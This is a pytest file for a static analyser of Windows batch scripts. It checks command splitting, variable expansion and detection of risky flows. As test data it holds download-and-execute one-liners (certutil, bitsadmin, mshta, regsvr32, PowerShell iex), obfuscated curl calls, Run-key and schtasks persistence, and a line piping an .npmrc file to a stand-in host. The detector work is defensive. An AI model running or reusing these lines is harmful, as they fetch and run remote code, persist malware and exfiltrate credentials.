"""Batch files: variables put in, commands cut, data followed."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pratique.analysis.facts import Capability, Language, Taint
from pratique.analysis.languages.shell.batch import cut, extract, read


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        ("@echo off", [["echo", "off"]]),
        ("a b & c && d | e", [["a", "b"], ["c"], ["d"], ["e"]]),
        ('a "b c" d', [["a", "b c", "d"]]),
        ("c^u^rl x", [["curl", "x"]]),
        ("if not exist x curl y", [["curl", "y"]]),
        ('if "%1"=="x" curl y', [["curl", "y"]]),
        ("if a equ b (curl y) else (wget z)", [["curl", "y"], ["wget", "z"]]),
        ("for %%i in (a b) do curl %%i", [["a", "b"], ["curl", "%%i"]]),
        ("for /f %%i in ('whoami') do curl %%i", [["whoami"], ["'whoami'"], ["curl", "%%i"]]),
        ('start "" /b "m.exe" x', [["m.exe", "x"]]),
        ("call x.bat > nul 2>&1", [["x.bat"]]),
    ],
)
def test_a_line_is_cut_as_cmd_does(line: str, expected: list[list[str]]) -> None:
    found = [[word.text for word in simple.words] for simple in cut(line, 1) if simple.words]

    assert expected == [words for words in found if words != ["for", "%%i", "in"]]


RUN = [
    ("curl -o m.exe https://a.invalid/m\nm.exe", Capability.PROCESS),
    ("certutil -urlcache -split -f https://a.invalid/m m.exe & start /b m.exe", Capability.PROCESS),
    ("bitsadmin /transfer x https://a.invalid/m %TEMP%\\m.exe\n%TEMP%\\m.exe", Capability.PROCESS),
    ("set u=https://a.invalid/x\nmshta %u%", Capability.CODE),
    ("regsvr32 /s /u /i:https://a.invalid/x.sct scrobj.dll", Capability.CODE),
    ("powershell -c \"iex (iwr 'https://a.invalid')\"", Capability.CODE),
]


@pytest.mark.parametrize(("text", "sink"), RUN)
def test_downloads_that_are_run_are_flows(text: str, sink: Capability) -> None:
    assert (sink, True) in [(flow.sink, Taint.NETWORK in flow.taints) for flow in read(text).flows]


@pytest.mark.parametrize(
    "text",
    [
        "set a=https://p.inv\nset b=alid/x\ncurl %a%%b%",
        "set k=xxcurl https://p.invalid/xyy\n%k:~2,-2%",
        "set k=cXrl https://p.invalid/x\n%k:X=u%",
        "setlocal enabledelayedexpansion\nset c=curl\n!c! https://p.invalid/x",
    ],
)
def test_variables_are_put_in(text: str) -> None:
    found = read(text)

    assert "https://p.invalid/x" in {item.value for item in found.addresses}
    assert "curl" in {use.api for use in found.uses}


def test_secrets_that_are_sent_and_start_places_are_told() -> None:
    found = read(
        "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v m /d m.exe\n"
        "schtasks /create /tn m /tr m.exe\ntype %USERPROFILE%\\.npmrc | curl -d @- https://a.invalid\n"
    )

    assert {"Run key", "schtasks"} <= {use.api for use in found.uses}
    assert [(Capability.NETWORK, True)] == [(flow.sink, Taint.SECRETS in flow.taints) for flow in found.flows]


@pytest.mark.parametrize(
    "text",
    [
        '@echo off\nsetlocal\nset DIR=%~dp0\nnode "%DIR%\\cli.js" %*\n',
        "rem curl https://a.invalid -o x & x\n:: certutil\n:label\ngoto label\n",
        "if exist build rmdir /s /q build\nmkdir build\ncd build\ncmake ..\n",
    ],
)
def test_ordinary_scripts_have_no_flow(text: str) -> None:
    assert () == read(text).flows


def test_a_script_names_the_files_that_it_starts() -> None:
    assert ["cli.js", "tools/x.py"] == [
        command.runs for command in read("node cli.js\npython tools\\x.py\n").commands
    ]


def test_binary_content_is_a_problem() -> None:
    assert "not text" == extract(b"a\0b").problem


@pytest.mark.parametrize("unit", ['"', "%", "%a%", "&", "^", "(", "set a=%a%%a%\n", "for ", "!x!"])
def test_a_long_row_of_anything_repeated_is_read(unit: str) -> None:
    assert Language.BATCH is extract((unit * (200_000 // len(unit))).encode()).language


@pytest.mark.fuzz
@given(
    st.lists(
        st.sampled_from(
            [
                "set a=b",
                "%a:~1%",
                "&",
                "|",
                "if",
                "exist",
                "x",
                "\n",
                '"',
                "^",
                "for",
                "do",
                "(",
                ">",
                "start",
                "/b",
            ]
        )
    )
)
def test_any_row_of_words_gives_facts(pieces: list[str]) -> None:
    assert Language.BATCH is read(" ".join(pieces)).language


@pytest.mark.fuzz
@given(st.binary(max_size=300))
def test_any_bytes_give_facts(source: bytes) -> None:
    assert Language.BATCH is extract(source).language
